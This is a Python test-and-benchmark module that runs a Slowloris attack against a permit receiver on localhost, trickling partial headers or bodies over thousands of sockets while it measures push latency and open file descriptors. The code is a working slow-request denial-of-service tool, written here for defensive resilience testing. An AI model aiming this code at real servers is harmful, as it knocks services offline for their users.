"""Slowloris against a real receiver, with a normal meter pushing alongside.

`attack` opens ``sockets`` connections to the receiver, spread evenly over ``open_s``
seconds, and keeps each one trickling a byte-sized piece of a request every
``interval_s``: half never finish their headers, half send whole headers with a large
Content-Length and then trickle the body. An attacker never reconnects: once the receiver
closes its socket it stops. Meanwhile one meter pushes valid permits one after the other
on a keep-alive connection, and the receiver's open file descriptors (/proc/PID/fd) are
counted every 0.1 s. Used by tests/integration/test_slow_clients.py (a few seconds) and
`python -m bench.slowloris` (thousands of sockets).
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import resource
import statistics
import time
from collections import Counter
from dataclasses import dataclass, field
from typing import Any

import aiohttp

from harness.payloads import make_payload

PUSH_PATH = "/api/OC-TOMA/v1/permits/push"


@dataclass
class SlowlorisResult:
    sockets: int
    opened: int = 0
    refused: int = 0  # connects that failed (listen backlog, file limit)
    cut: int = 0  # attackers whose socket the receiver closed
    got_408: int = 0
    # Seconds from an attacker's connect to the receiver closing it, for those cut.
    lifetimes_s: list[float] = field(default_factory=list)
    still_open_at_end: int = 0
    push_latencies_s: list[float] = field(default_factory=list)
    push_statuses: Counter[int] = field(default_factory=Counter)
    fd_baseline: int = 0
    fd_samples: list[int] = field(default_factory=list)

    @property
    def fd_peak(self) -> int:
        return max(self.fd_samples, default=self.fd_baseline)

    def push_quantile_ms(self, q: float) -> float:
        ordered = sorted(self.push_latencies_s)
        if not ordered:
            return float("nan")
        return 1000 * ordered[min(len(ordered) - 1, int(q * len(ordered)))]

    def summary(self) -> dict[str, Any]:
        lifetimes = self.lifetimes_s
        return {
            "sockets": self.sockets,
            "opened": self.opened,
            "refused": self.refused,
            "cut": self.cut,
            "got_408": self.got_408,
            "still_open_at_end": self.still_open_at_end,
            "lifetime_max_s": round(max(lifetimes), 2) if lifetimes else None,
            "lifetime_median_s": round(statistics.median(lifetimes), 2) if lifetimes else None,
            "pushes": len(self.push_latencies_s),
            "push_statuses": dict(self.push_statuses),
            "push_p50_ms": round(self.push_quantile_ms(0.50), 1),
            "push_p99_ms": round(self.push_quantile_ms(0.99), 1),
            "fd_baseline": self.fd_baseline,
            "fd_peak": self.fd_peak,
            "fd_end": self.fd_samples[-1] if self.fd_samples else None,
        }


def open_files(pid: int) -> int:
    return len(os.listdir(f"/proc/{pid}/fd"))


def raise_file_limit(wanted: int) -> None:
    """Raise this process's soft RLIMIT_NOFILE to ``wanted`` (up to the hard limit)."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    target = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    if soft < target:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))


async def _attacker(
    index: int, port: int, interval_s: float, stop: asyncio.Event, result: SlowlorisResult
) -> None:
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        result.refused += 1
        return
    result.opened += 1
    opened = time.monotonic()
    head = f"POST {PUSH_PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    if index % 2:
        # Whole headers, then a body that never ends.
        pieces = [(head + "Content-Length: 100000\r\n\r\n{").encode()]
        drip = b" "
    else:
        pieces = [head.encode()]
        drip = b"X-Slow: a\r\n"
    reply = asyncio.ensure_future(reader.read(4096))
    try:
        writer.write(pieces[0])
        while not stop.is_set():
            done, _ = await asyncio.wait({reply}, timeout=interval_s)
            if done:
                break
            writer.write(drip)
            with contextlib.suppress(ConnectionError):
                await writer.drain()
        if reply.done():
            data = b""
            with contextlib.suppress(ConnectionError):
                data = reply.result()
            # A reply (the 408), then EOF; or EOF alone: either way the receiver cut it.
            result.cut += 1
            result.lifetimes_s.append(time.monotonic() - opened)
            if data.startswith(b"HTTP/1.1 408"):
                result.got_408 += 1
        else:
            result.still_open_at_end += 1
    except ConnectionError:
        result.cut += 1
        result.lifetimes_s.append(time.monotonic() - opened)
    finally:
        reply.cancel()
        writer.close()
        with contextlib.suppress(Exception):
            await writer.wait_closed()


async def _meter(port: int, token: str, stop: asyncio.Event, result: SlowlorisResult) -> None:
    url = f"http://127.0.0.1:{port}{PUSH_PATH}"
    timeout = aiohttp.ClientTimeout(total=30)
    async with aiohttp.ClientSession(timeout=timeout) as session:
        count = 0
        while not stop.is_set():
            count += 1
            body = make_payload(apiToken=token, permitNo=f"slowloris-{os.getpid()}-{count}")
            started = time.monotonic()
            try:
                async with session.post(url, json=body) as response:
                    await response.read()
                    result.push_statuses[response.status] += 1
            except (aiohttp.ClientError, TimeoutError):
                result.push_statuses[0] += 1
            result.push_latencies_s.append(time.monotonic() - started)
            await asyncio.sleep(0.01)


async def _count_files(pid: int, stop: asyncio.Event, result: SlowlorisResult) -> None:
    while not stop.is_set():
        with contextlib.suppress(OSError):
            result.fd_samples.append(open_files(pid))
        await asyncio.sleep(0.1)


async def attack(
    *,
    port: int,
    pid: int,
    token: str,
    sockets: int,
    open_s: float,
    run_s: float,
    interval_s: float = 0.5,
) -> SlowlorisResult:
    """Run the attack and the meter for ``run_s`` seconds; see the module docstring."""
    raise_file_limit(sockets + 1024)
    result = SlowlorisResult(sockets=sockets, fd_baseline=open_files(pid))
    stop = asyncio.Event()
    background = [
        asyncio.ensure_future(_meter(port, token, stop, result)),
        asyncio.ensure_future(_count_files(pid, stop, result)),
    ]
    attackers: list[asyncio.Future[None]] = []
    started = time.monotonic()
    for index in range(sockets):
        # Spread the connects evenly over open_s.
        delay = started + index * open_s / sockets - time.monotonic()
        if delay > 0:
            await asyncio.sleep(delay)
        attackers.append(asyncio.ensure_future(_attacker(index, port, interval_s, stop, result)))
    await asyncio.sleep(max(0.0, started + run_s - time.monotonic()))
    stop.set()
    await asyncio.gather(*attackers, *background)
    return result
